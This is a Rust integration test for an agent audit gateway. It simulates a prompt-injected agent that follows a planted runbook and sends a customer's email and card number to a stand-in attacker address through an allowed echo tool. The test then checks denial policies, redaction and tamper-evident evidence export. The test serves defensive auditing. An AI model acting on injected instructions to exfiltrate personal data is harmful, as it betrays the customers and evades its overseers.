//! The story that all of this is for: an agent that read hidden instructions takes a customer's record out through a
//! tool that it may use. All that the auditor has is the person's name in the log.

use super::policies;
use crate::harness::{Gate, Site, Token, demo_servers};
use serde_json::{Value, json};
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

const EMAIL: &str = "ada.lovelace@customers.example.com";

/// Whether `audit/verify.py` accepts a bundle, with keys that came another way.
fn accepted(bundle: &Path, keys: &Path) -> (bool, Value) {
    let verifier = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("audit/verify.py");
    let out = Command::new("python3").arg(verifier).arg("--vkey").arg(keys).arg(bundle).output().unwrap();
    let report: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("verify.py: {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.success() && report["ok"] == true, report)
}

async fn injected_agent(gate: &Gate, token: &Token) {
    // It looks a customer up, reads a document that tells it to send the record away, and does.
    let customer = gate.call(token, "crm_get_customer", json!({"id": "c-001"})).await;
    assert_eq!(customer.code(), None, "{}", customer.body);
    gate.call(token, "ops_fetch_runbook", json!({"name": "mail-queue"})).await;
    let sent =
        json!({"text": format!("to collector@evil.example.net: customer {EMAIL}, card 4111 1111 1111 1111")});
    let echoed = gate.call(token, "ops_echo", sent).await;
    assert_eq!(echoed.code(), None, "{}", echoed.body);
    // What it may not use does not let it out.
    let deleted = gate.call(token, "crm_delete_customer", json!({"id": "c-001"})).await;
    assert_eq!(deleted.code(), Some(8001), "{}", deleted.body);
}

#[tokio::test]
async fn from_a_pseudonym_to_evidence_that_an_outsider_accepts() {
    let guard =
        "@id(\"nobody-deletes\")\nforbid (principal, action == Action::\"crm_delete_customer\", resource);\n";
    let site = Site::new(&demo_servers(), "", &format!("{}{guard}", policies()));
    // The log knows the person by a pseudonym only.
    let (pseudonym, other) = (site.token("p-7f3a", "employee"), site.token("p-0000", "employee"));
    let auditor = site.token("anna", "auditor");
    let gate = site.start();
    gate.call(&other, "ops_echo", json!({"text": "nothing to see"})).await;
    injected_agent(&gate, &pseudonym).await;
    let records = gate.site.records().len() as u64;
    gate.until(|ready| ready["log"]["checkpoint"].as_u64().is_some_and(|size| size >= records)).await;

    let calls = found(&gate, &auditor, "p-7f3a").await;
    assert_eq!(calls.len(), 4, "the calls of that person, and of nobody else: {calls:?}");
    let (mut told, mut seqs) = (Vec::new(), Vec::new());
    for call in &calls {
        let answer = gate.audit(&auditor, "GET", &format!("/calls/{call}"), None).await.json();
        let hits = answer["hits"].as_array().unwrap().clone();
        seqs.extend(hits.iter().map(|hit| hit["seq"].as_u64().unwrap()));
        told.push(hits);
    }
    let decision = |tool: &str| {
        let all = told.iter().map(|hits| &hits[0]["record"]);
        all.into_iter().find(|record| record["mcp"]["name"] == tool).unwrap_or_else(|| panic!("no {tool}"))
    };
    // Who, through which software, and under which policies.
    let echo = decision("ops_echo");
    assert_eq!((&echo["actor"]["id"], &echo["actor"]["agent"]), (&json!("p-7f3a"), &json!("test")));
    assert_eq!((&echo["authz"]["decision"], &echo["authz"]["policies"]), (&json!("allow"), &json!(["all"])));
    let refused = decision("crm_delete_customer");
    assert_eq!(
        (&refused["kind"], &refused["authz"]["policies"]),
        (&json!("call.denied"), &json!(["nobody-deletes"]))
    );
    // What was removed before it left, by type, and never by value.
    let removed: Vec<&str> =
        echo["redact"]["findings"].as_array().unwrap().iter().map(|f| f["type"].as_str().unwrap()).collect();
    assert!(removed.contains(&"email") && removed.contains(&"credit_card"), "{removed:?}");
    let seq =
        told.iter().find(|hits| hits[0]["record"]["mcp"]["name"] == "ops_echo").unwrap()[0]["seq"].clone();
    let said = gate.audit(&auditor, "GET", &format!("/records/{seq}/payload"), None).await.json();
    let text = said["payload"].as_str().unwrap();
    assert!(text.contains("customer ") && !text.contains(EMAIL) && !text.contains("4111"), "{text}");

    // Evidence for somebody who trusts nobody: the keys came another way, the bundle by post.
    let bundle = json!({"form": "bundle", "select": {"calls": calls}});
    let url = format!("{}/exports", gate.auditors);
    let answer = gate
        .http
        .post(url)
        .bearer_auth(&auditor.value)
        .header("content-type", "application/json")
        .body(bundle.to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200);
    assert!(answer.headers()["content-disposition"].to_str().unwrap().ends_with(".tar\""));
    let tar = answer.bytes().await.unwrap();
    assert!(!tar.windows(EMAIL.len()).any(|window| window == EMAIL.as_bytes()));
    let place = tempfile::tempdir().unwrap();
    let (file, keys) = (place.path().join("evidence.tar"), place.path().join("keys"));
    std::fs::write(&file, &tar).unwrap();
    std::fs::copy(gate.site.data().join("checkpoint.vkeys"), &keys).unwrap();
    let (ok, report) = accepted(&file, &keys);
    assert!(ok, "{report}");
    assert_eq!((&report["records"], &report["complete"]), (&json!(seqs.len()), &json!(false)));
    let export = gate.site.records();
    let export = export.iter().find(|record| record["kind"] == "audit.export").unwrap();
    assert_eq!(export["export"]["records"], json!(seqs.len()));
    assert!(std::fs::read_dir(gate.site.data().join("exports")).unwrap().next().is_none(), "nothing stays");
    edited(&tar, place.path(), &keys);
}

/// The calls of a person, from their name alone.
async fn found(gate: &Gate, auditor: &Token, pseudonym: &str) -> Vec<String> {
    let path = format!("/search?q=actor:{pseudonym} (kind:call.intent OR kind:call.denied)&consistency=wait");
    let page = gate.audit(auditor, "GET", &path, None).await;
    assert_eq!(page.status, 200, "{}", page.body);
    let page = page.json();
    assert_eq!(page["next"], Value::Null);
    let hits = page["hits"].as_array().unwrap().iter().rev();
    hits.map(|hit| hit["record"]["call"].as_str().unwrap().to_owned()).collect()
}

/// Every file of the bundle, with one byte of it another.
fn edited(tar: &[u8], place: &Path, keys: &Path) {
    let whole = place.join("whole");
    tar::Archive::new(tar).unpack(&whole).unwrap();
    let root = std::fs::read_dir(&whole).unwrap().next().unwrap().unwrap().path();
    assert!(accepted(&root, keys).0);
    let mut files: Vec<PathBuf> = Vec::new();
    for folder in [root.clone(), root.join("proofs")] {
        files.extend(
            std::fs::read_dir(folder)
                .unwrap()
                .map(|entry| entry.unwrap().path())
                .filter(|path| path.is_file()),
        );
    }
    assert!(files.len() > 8, "{files:?}");
    for path in files {
        let bytes = std::fs::read(&path).unwrap();
        let middle = bytes.len() / 2;
        let mut forged = bytes.clone();
        forged[middle] = if forged[middle] == b'x' { b'y' } else { b'x' };
        std::fs::File::create(&path).unwrap().write_all(&forged).unwrap();
        assert!(!accepted(&root, keys).0, "an edit of {} is accepted", path.display());
        std::fs::write(&path, bytes).unwrap();
    }
    assert!(accepted(&root, keys).0);
}
